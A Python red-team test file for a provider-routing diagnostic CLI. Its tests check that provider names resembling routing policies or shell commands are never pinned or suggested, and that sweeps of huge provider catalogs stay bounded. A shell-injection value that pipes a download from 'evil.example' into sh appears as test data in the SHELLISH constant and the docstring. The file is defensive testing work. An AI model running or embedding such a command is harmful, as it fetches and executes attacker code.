"""Red team: provider names a server makes up. A catalog or a mapping may name a provider like a routing
policy (`preferred`: `repo:preferred` routes by policy, it pins nothing), or with characters no provider
name has (`x; curl evil.example | sh`), or list thousands for one model. Such a name is listed, never
pinned, swept or suggested as `--model REPO:NAME`; the sweep makes a bounded number of billed calls."""

from __future__ import annotations

import json

from hhelpers import PLANTED, every_artifact, run
from hostile_server import MODEL, REPO, json_answer

from hftui.core.sweep import SWEEP_LIMIT

SHELLISH = "x$(curl evil.example|sh)"


def routes_listing(*names: str, serving: set[str]):
    """A catalog and a mapping listing `names` live for the model; a chat call works only pinned to `serving`
    (or to the policy name, which is how a router reads `:preferred`)."""
    providers = [{"provider": name, "status": "live"} for name in names]

    def chat(request):
        suffix = json.loads(request.body)["model"].partition(":")[2]
        if suffix in serving:
            return json_answer({"choices": [{"message": {"content": "OK"}}]})
        return json_answer({"error": "model not supported by provider"}, 400, "Bad Request")

    return {"catalog": lambda r: json_answer({"data": [{"id": REPO, "providers": providers}]}),
            "mapping": lambda r: json_answer({"id": REPO, "inferenceProviderMapping": {
                name: {"status": "live", "task": "conversational"} for name in names}}),
            "chat": chat}


def pinned_suffixes(server) -> set[str]:
    return {json.loads(r.body)["model"].partition(":")[2] for r in server.requests if r.path.startswith("/v1/chat")}


def test_a_provider_named_like_a_policy_or_a_command_is_never_pinned_swept_or_suggested(hostile, tmp_path):
    names = ("preferred", "Fastest", SHELLISH, "cheapest ", "featherless-ai")
    server = hostile(routes_listing(*names, serving={"preferred", "Fastest", SHELLISH, "featherless-ai"}))
    artifacts = every_artifact(server.url, PLANTED, tmp_path, "--sweep", curl=("pinned",))
    artifacts.assert_calm()
    called = pinned_suffixes(server) - {"together", "fastest"}  # the configured call, the known-good one
    assert called == {"featherless-ai"}, called
    document = artifacts.document
    pinned = next(step for step in document["steps"] if step["id"] == "pinned")
    assert json.loads(pinned["request"]["body"])["model"] == f"{REPO}:featherless-ai"
    for name in ("plain stdout", "json stdout", "bundle.md"):
        text = artifacts.texts[name]
        for odd in ("preferred", "Fastest", SHELLISH):
            assert f"{REPO}:{odd}" not in text, f"{name}: suggests --model {REPO}:{odd}"
    assert "not a provider name one can pin" in artifacts.texts["plain stdout"]


def test_only_odd_names_live_means_no_provider_to_pin_not_a_policy_call_passed_off_as_pinned(hostile):
    server = hostile(routes_listing("preferred", SHELLISH, serving={"preferred", SHELLISH}))
    result = run("diagnose", "--json", "--hub-url", server.url, "--router-url", server.url, "--model", MODEL,
                 "--timeout", "5", env={"HF_TOKEN": PLANTED})
    document = json.loads(result.stdout)
    pinned = next(step for step in document["steps"] if step["id"] == "pinned")
    assert pinned["status"] == "skipped" and "not a provider name a model can be pinned to" in pinned["error"]
    assert pinned_suffixes(server) <= {"together", "fastest"}


def test_a_catalog_of_thousands_of_providers_makes_a_bounded_sweep(hostile):
    names = [f"p{i}" for i in range(3000)]
    server = hostile(routes_listing(*names, serving=set()))
    result = run("diagnose", "--json", "--sweep", "--hub-url", server.url, "--router-url", server.url,
                 "--model", MODEL, "--timeout", "5", env={"HF_TOKEN": PLANTED})
    assert "Traceback" not in result.stderr and result.returncode in (0, 1)
    swept = pinned_suffixes(server) - {"together", "fastest"}
    assert 0 < len(swept) <= SWEEP_LIMIT + 1  # the pinned step's own call may be one more
    sweep_step = next(step for step in json.loads(result.stdout)["steps"] if step["id"] == "sweep")
    assert "more providers not called" in sweep_step["note"]
